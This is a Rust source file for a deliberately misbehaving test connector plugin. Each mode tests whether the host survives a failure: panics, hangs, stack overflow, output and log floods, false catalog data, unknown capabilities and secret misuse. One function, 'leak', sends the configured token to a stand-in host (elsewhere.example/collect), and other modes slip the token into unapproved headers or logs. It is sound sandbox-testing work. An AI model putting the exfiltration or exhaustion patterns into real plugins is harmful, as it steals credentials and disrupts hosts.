//! A connector that misbehaves on request, so that the host's promises can be tested against real code in a real file.
//!
//! The setting `mode` says how; `act` is the table of all modes. Both hooks act it out; a refresh also puts things into
//! the catalog where the mode is about that.

use jackfield_plugin::{
    Checks, Connector, Context, Description, Failure, Object, Origin, Request, Secret,
    contract::{
        Call, Done,
        catalog::CatalogPut,
        description::RotationMode,
        hooks::RefreshReport,
        http::{Body, HttpRequest, Place, Slot, Target},
        run::Level,
        secrets::{SecretInspect, SecretRef},
    },
    schemars::{self, JsonSchema},
};
use serde::{Deserialize, Serialize};
use std::{future::Future, task::Poll};

mod parrot;
#[cfg(test)]
mod tests;

jackfield_plugin::export!(Hostile, id: "hostile", name: "Hostile");

/// The connector.
struct Hostile;

/// The settings of a hostile connection.
#[derive(Deserialize, JsonSchema)]
struct Settings {
    /// Where the requests of some modes go.
    #[schemars(title = "Server URL", extend("x-origin" = {"schemes": ["https", "http"]}))]
    server_url: Origin,
    /// A secret to misuse.
    #[schemars(title = "Token", extend("x-credential" = "token"))]
    token: Secret,
    /// A client certificate to misuse.
    #[schemars(
        title = "Client certificate",
        extend("x-credential" = "certificate", "x-tls-identity" = {"password": "certificate_password"})
    )]
    certificate: Option<Secret>,
    /// Its password.
    #[schemars(title = "Certificate password", extend("x-credential" = "certificate"))]
    certificate_password: Option<Secret>,
    /// How to misbehave.
    #[schemars(title = "Mode")]
    mode: String,
    /// How many objects the mode `ok` puts.
    #[serde(default = "default_count")]
    #[schemars(title = "Count")]
    count: u64,
    /// How long the mode `slow` takes.
    #[serde(default = "default_seconds")]
    #[schemars(title = "Seconds")]
    seconds: u64,
}

fn default_count() -> u64 {
    250
}

fn default_seconds() -> u64 {
    3
}

type Asked = Context<Settings>;

impl Connector for Hostile {
    type Settings = Settings;

    fn describe() -> Description {
        let uses = [
            ("token", Place::Bearer, "/*"),
            ("token", Place::Json { pointer: "/key".to_owned() }, "/json/*"),
            ("token", Place::Form { field: "key".to_owned() }, "/form/*"),
        ];
        Description::of::<Settings>("hostile", "Hostile", env!("CARGO_PKG_VERSION"))
            .summary("Misbehaves on request.")
            .object("thing", "thing", "things")
            .check("Server reachable", "Nothing; it passes if the mode lets the test end")
            .credential("token", "Token", RotationMode::Supplied, uses)
            .credential(
                "certificate",
                "Client certificate",
                RotationMode::Supplied,
                [("certificate", Place::TlsIdentity, "/*")],
            )
            .build()
    }

    async fn test(context: &Asked, checks: &mut Checks) -> Result<(), Failure> {
        match context.settings().mode.as_str() {
            "lie_check" => checks.pass("World peace", "nobody declared this check"),
            mode if mode.starts_with("parrot") => {
                let said = parrot::repeat(context, mode, false).await?;
                checks.pass("Server reachable", said);
                return Ok(());
            }
            mode => act(context, mode, false).await?,
        }
        checks
            .pass("Server reachable", format!("{} was not asked", context.settings().server_url.authority()));
        Ok(())
    }

    async fn refresh(context: &Asked) -> Result<RefreshReport, Failure> {
        let mode = context.settings().mode.as_str();
        let summary = match mode.starts_with("parrot") {
            true => parrot::repeat(context, mode, true).await?,
            false => act(context, mode, true).await.map(|()| "behaved, in the end".to_owned())?,
        };
        context.catalog().complete("thing").await?;
        Ok(RefreshReport { summary })
    }
}

/// What each mode does. `refresh` says whether there is a catalog to put into.
async fn act(context: &Asked, mode: &str, refresh: bool) -> Result<(), Failure> {
    let settings = context.settings();
    match mode {
        // Behaves.
        "ok" if refresh => put_pages(context, settings.count).await,
        "ok" | "lie_check" => Ok(()),
        "slow" => slow(context, refresh).await,
        "fail" => Err(Failure::remote("the server is tired")
            .status(503)
            .reference("HOSTILE-1")
            .remedy("let it sleep")),

        // Ends badly, or not at all.
        "panic" => panic!("as requested"),
        "panic_in_poll" => {
            context.now().await?;
            panic!("as requested, after an await")
        }
        "panic_in_drop" => {
            let _held = PanicsInDrop;
            context.now().await?;
            panic!("as requested, and again in a drop, which nobody can catch")
        }
        "hang" => std::future::pending().await,
        "spin" => loop {
            std::hint::spin_loop();
        },
        "abort" => std::process::abort(),
        "exit" => std::process::exit(0),
        "segfault" => Err(Failure::plugin(format!("the stack has no end: {}", overflow(0)))),

        // Says too much.
        "stdout" => {
            shout();
            Ok(())
        }
        "flood" => put_pages(context, u64::MAX).await,
        "flood_calls" => flood_calls(context).await,
        "flood_log" => flood_log(context).await,
        "huge" => {
            let object = thing(0).attributes(&serde_json::json!({ "text": "x".repeat(100_000_000) }))?;
            put(context, "thing", vec![object]).await
        }

        // Lies.
        "lie_kind" => put(context, "unicorn", vec![thing(0)]).await,
        "duplicate" => put(context, "thing", vec![thing(7), thing(7)]).await,
        "bad_attributes" => {
            put(context, "thing", vec![Object { attributes: "{\"half\":".to_owned(), ..thing(0) }]).await
        }

        // Reaches for what it may not have.
        "unknown_capability" => context.host().call(&Teleport {}).await.map(drop),
        "slot_elsewhere" => {
            let place = Place::Header { name: "x-leak".to_owned() };
            context
                .http()
                .send(&Request::get("server_url", "/leak").secret(&settings.token, place))
                .await
                .map(drop)
        }
        "facts" => {
            let given = settings.certificate.is_some() && settings.certificate_password.is_some();
            let facts = context.host().call(&SecretInspect { field: "certificate".to_owned() }).await?;
            context.log(Level::Info, format!("with a password: {given}; {facts:?}")).await
        }
        place if place.starts_with("slot ") => slot(context, &place["slot ".len()..]).await,
        "leak" => context.host().call(&leak(&settings.token)).await.map(drop),
        "echo_secret" => {
            let answer =
                context.http().send(&Request::get("server_url", "/echo").bearer(&settings.token)).await?;
            context
                .log(Level::Info, format!("the server said: {}", String::from_utf8_lossy(answer.body())))
                .await
        }

        unknown => Err(Failure::you(format!("there is no mode \"{unknown}\"")).field("mode")),
    }
}

fn thing(number: u64) -> Object {
    Object::new(format!("thing-{number}"), format!("Thing {number}"))
}

async fn put(context: &Asked, kind: &str, objects: Vec<Object>) -> Result<(), Failure> {
    let put = CatalogPut { kind: kind.to_owned(), objects, exchange: None };
    context.host().call(&put).await.map(drop)
}

/// Puts so many things, in pages of 100.
async fn put_pages(context: &Asked, count: u64) -> Result<(), Failure> {
    let mut next = 0;
    while next < count {
        let end = next.saturating_add(100).min(count);
        put(context, "thing", (next..end).map(thing).collect()).await?;
        next = end;
    }
    Ok(())
}

/// Sleeps in 10 calls at once, each with 40 MB that nobody wants.
async fn flood_calls(context: &Asked) -> Result<(), Failure> {
    let nap = || Nap { milliseconds: 1500, pillow: "z".repeat(40_000_000) };
    let mut naps: Vec<_> =
        (0..10).map(|_| Box::pin(async { context.host().call(&nap()).await.map(drop) })).collect();
    std::future::poll_fn(|waker| {
        // Whoever has ended is not asked again.
        naps.retain_mut(|nap| nap.as_mut().poll(waker).is_pending());
        if naps.is_empty() { Poll::Ready(Ok(())) } else { Poll::Pending }
    })
    .await
}

/// Takes its time, in steps of 100 ms, with a thing in each.
async fn slow(context: &Asked, refresh: bool) -> Result<(), Failure> {
    let steps = context.settings().seconds.saturating_mul(10);
    for step in 0..steps {
        context.progress("thing", step, Some(steps)).await?;
        if refresh {
            put(context, "thing", vec![thing(step)]).await?;
        }
        context.sleep(100).await?;
    }
    Ok(())
}

/// Writes to the descriptors that a plugin should leave alone.
fn shout() {
    for line in 0..10_000 {
        println!("{line}: this line does not belong on the standard output");
        eprintln!("{line}: nor does this one belong here");
    }
}

/// A request that carries the token away.
fn leak(token: &Secret) -> HttpRequest {
    HttpRequest {
        method: "GET".to_owned(),
        target: Target::Url { url: "https://elsewhere.example/collect".to_owned() },
        query: Vec::new(),
        headers: Vec::new(),
        body: Body::Empty,
        slots: vec![Slot { secret: SecretRef::Setting(token.field().to_owned()), place: Place::Bearer }],
        captures: Vec::new(),
        jar: None,
        repeatable: None,
        retry_on: None,
        list: false,
        step: None,
        timeout_ms: None,
    }
}

/// Puts a secret where the mode says: `slot SECRET PATH PLACE`, the place as JSON.
async fn slot(context: &Asked, text: &str) -> Result<(), Failure> {
    let wrong = |what: &str| Failure::you(format!("\"{text}\" has no {what}")).field("mode");
    let mut words = text.splitn(3, ' ');
    let mut next = |what| words.next().ok_or_else(|| wrong(what));
    let (name, path, place) = (next("secret")?, next("path")?, next("place")?);
    let place: Place = serde_json::from_str(place).map_err(|_| wrong("place"))?;
    let body = match &place {
        Place::Form { .. } => Body::Form(Vec::new()),
        Place::Json { .. } => Body::Json(serde_json::json!({})),
        _ => Body::Empty,
    };
    let secret = match name.strip_prefix("captured:") {
        Some(name) => SecretRef::Captured(name.to_owned()),
        None => SecretRef::Setting(name.to_owned()),
    };
    let target = Target::Path { origin: "server_url".to_owned(), path: path.to_owned() };
    let slots = vec![Slot { secret, place }];
    let request = HttpRequest { target, body, slots, ..leak(&context.settings().token) };
    context.host().call(&request).await.map(drop)
}

/// A capability that no host has.
#[derive(Serialize, Deserialize)]
struct Teleport {}

impl Call for Teleport {
    const NAME: &'static str = "universe.teleport";
    type Answer = Done;
}

/// Logs long lines first, many lines then, and fails with a long message.
async fn flood_log(context: &Asked) -> Result<(), Failure> {
    for _ in 0..10 {
        context.log(Level::Warning, "ä".repeat(500_000)).await?;
    }
    for line in 0..21_000 {
        context.log(Level::Info, format!("line {line}")).await?;
    }
    Err(Failure::remote("w".repeat(500_000)).remedy("r".repeat(500_000)))
}

/// A sleep that carries more than a sleep needs.
#[derive(Serialize, Deserialize)]
struct Nap {
    milliseconds: u64,
    pillow: String,
}

impl Call for Nap {
    const NAME: &'static str = "time.sleep";
    type Answer = Done;
}

/// A second panic while the first one unwinds: the process ends.
struct PanicsInDrop;

impl Drop for PanicsInDrop {
    fn drop(&mut self) {
        panic!("in a drop");
    }
}

/// Touches the guard page at the end of the stack; the safe way to a segmentation fault.
#[expect(unconditional_recursion, reason = "that is the point")]
fn overflow(depth: u64) -> u64 {
    let frame = std::hint::black_box([depth; 512]);
    overflow(depth + 1) + frame[0]
}
